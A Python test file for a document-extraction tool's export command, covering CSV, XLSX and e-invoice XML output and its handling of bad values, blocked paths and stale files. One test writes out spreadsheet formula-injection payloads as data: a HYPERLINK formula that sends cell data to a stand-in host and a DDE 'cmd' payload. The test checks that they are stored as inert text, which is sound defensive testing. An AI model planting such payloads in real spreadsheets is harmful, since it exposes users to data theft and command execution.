"""`llamadoc export` over values nobody vouches for: a value a spreadsheet would run as a
formula, amounts and currencies as documents print them, characters XML cannot hold, a
folder in the way. Each invoice that cannot be written is named with the reason, the others
are written, and no file is left half-written or stale."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

from llamadoc.engines.base import GenerationRequest
from llamadoc.inputs import einvoice
from tests.printed import PrintedInvoice
from tests.test_review import SureEngine, batch

NAMES = ["a", "b", "c", "d"]


def finished(tmp_path: Path) -> Path:
    """A batch of four printed invoices read by a sure engine: out/a.json ... out/d.json."""
    invoices = [PrintedInvoice(number=f"RE-2026-09{n}0") for n in range(len(NAMES))]

    def answer(req: GenerationRequest, n: int) -> str:
        return invoices[n - 1].answers()[0]

    paths = [inv.pdf(tmp_path / f"{name}.pdf") for inv, name in zip(invoices, NAMES, strict=True)]
    _, out = batch(tmp_path, SureEngine(answer), paths)
    return out


def change(out: Path, name: str, path: str, value: Any) -> None:
    """Set one value of a written result, in its record and in its list of values, as a model
    (or a person with an editor) might have written it."""
    result = out / f"{name}.json"
    body = json.loads(result.read_text())
    node = body["fields"]
    keys = path.replace("[", ".").replace("]", "").split(".")
    for key in keys[:-1]:
        node = node[int(key)] if key.isdigit() else node[key]
    node[int(keys[-1]) if keys[-1].isdigit() else keys[-1]] = value
    for v in body["values"]:
        if v["path"] == path:
            v["value"] = value
    result.write_text(json.dumps(body))


def clean(result: Any) -> None:
    assert "internal error" not in result.stderr and "Traceback" not in result.stderr, result.stderr


def test_a_value_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path, run_cli: Any) -> None:
    out = finished(tmp_path)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    change(out, "a", "seller.name", formula)
    change(out, "a", "line_items[0].description", "+cmd|' /C calc'!A0")
    change(out, "b", "seller.name", "@SUM(1+1)")
    change(out, "b", "line_items[0].amount", "-7,90")  # a credit: a number, left as it is

    result = run_cli("export", str(out), "--to", "csv")
    clean(result)
    assert result.exit_code == 0, result.stderr
    with (out / "export" / "invoices.csv").open(encoding="utf-8") as f:
        rows = {r["source"].rsplit("/", 1)[-1]: r for r in csv.DictReader(f)}
    assert rows["a.pdf"]["seller.name"] == "'" + formula
    assert rows["b.pdf"]["seller.name"] == "'@SUM(1+1)"
    with (out / "export" / "line_items.csv").open(encoding="utf-8") as f:
        lines = list(csv.DictReader(f))
    assert lines[0]["description"] == "'+cmd|' /C calc'!A0"
    assert "-7,90" in [line["amount"] for line in lines]

    assert run_cli("export", str(out), "--to", "xlsx").exit_code == 0
    from openpyxl import load_workbook

    sheet = load_workbook(out / "export" / "invoices.xlsx")["invoices"]
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("seller.name") + 1)
    assert cell.value == formula and cell.data_type == "s"  # text, not a live formula


def test_each_invoice_that_cannot_be_an_e_invoice_is_named_and_the_others_written(
        tmp_path: Path, run_cli: Any) -> None:
    out = finished(tmp_path)
    change(out, "a", "currency", "€")  # a sign only the euro uses
    change(out, "b", "net_total", "n/a")
    change(out, "b", "buyer.vat_id", 12345)
    change(out, "c", "seller.name", "ACME\u0001 GmbH")
    change(out, "d", "seller", "ACME GmbH")  # a party written as text

    for kind in ("ubl", "cii"):
        result = run_cli("export", str(out), "--to", kind)
        clean(result)
        assert result.exit_code == 1, result.stderr
        assert [p.name for p in (out / "export" / kind).glob("*.xml")] == ["a.xml"]
        assert einvoice.parse((out / "export" / kind / "a.xml").read_bytes()).to_fields()["currency"] == "EUR"
        assert "b.pdf: not exported: net_total 'n/a' is not one clear amount" in result.stderr
        assert "c.pdf: not exported: seller.name holds the control character U+0001" in result.stderr
        assert "d.pdf: not exported: no seller.name" in result.stderr


def test_an_invoice_left_out_later_leaves_no_earlier_e_invoice_behind(tmp_path: Path, run_cli: Any) -> None:
    out = finished(tmp_path)
    (out / "export" / "ubl").mkdir(parents=True)
    theirs = out / "export" / "ubl" / "theirs.xml"  # not an export's: never removed
    theirs.write_text("<x/>")
    assert run_cli("export", str(out), "--to", "ubl").exit_code == 0
    assert (out / "export" / "ubl" / "b.xml").exists()
    change(out, "b", "net_total", None)
    result = run_cli("export", str(out), "--to", "ubl")
    assert result.exit_code == 1 and "b.pdf: not exported: no net_total" in result.stderr
    assert sorted(p.name for p in (out / "export" / "ubl").glob("*.xml")) == ["a.xml", "c.xml", "d.xml",
                                                                             "theirs.xml"]


def test_a_folder_in_the_way_fails_the_export_and_keeps_the_last_tables(tmp_path: Path, run_cli: Any) -> None:
    out = finished(tmp_path)
    assert run_cli("export", str(out), "--to", "csv").exit_code == 0
    before = (out / "export" / "invoices.csv").read_bytes()
    (out / "export" / "line_items.csv").unlink()
    (out / "export" / "line_items.csv").mkdir()
    change(out, "a", "seller.name", "Changed GmbH")
    result = run_cli("export", str(out), "--to", "csv")
    clean(result)
    assert result.exit_code == 1
    assert "cannot write" in result.stderr and "line_items.csv" in result.stderr
    assert (out / "export" / "invoices.csv").read_bytes() == before  # not half of a new pair
    assert not [p for p in (out / "export").iterdir() if p.name.endswith(".part")]


def test_an_export_never_goes_where_results_are(tmp_path: Path, run_cli: Any) -> None:
    out = finished(tmp_path)
    (out / "export").mkdir()
    (out / "export" / "a.json").write_bytes((out / "a.json").read_bytes())  # an input folder named export
    result = run_cli("export", str(out), "--to", "jsonl")
    assert result.exit_code == 2 and "holds results of the batch" in result.stderr and "--dest" in result.stderr
    assert run_cli("export", str(out), "--to", "jsonl", "--dest", str(tmp_path / "tables")).exit_code == 0


def test_a_folder_without_results_is_a_usage_error(tmp_path: Path, run_cli: Any) -> None:
    result = run_cli("export", str(tmp_path), "--to", "csv")
    assert result.exit_code == 2 and "holds no llamadoc results" in result.stderr
    assert not (tmp_path / "export").exists()


def test_line_items_written_as_text_are_no_rows(tmp_path: Path, run_cli: Any) -> None:
    out = finished(tmp_path)
    change(out, "a", "line_items", "see attached")
    assert run_cli("export", str(out), "--to", "csv").exit_code == 0
    with (out / "export" / "line_items.csv").open(encoding="utf-8") as f:
        lines = list(csv.DictReader(f))
    assert all(not line["source"].endswith("a.pdf") for line in lines) and lines
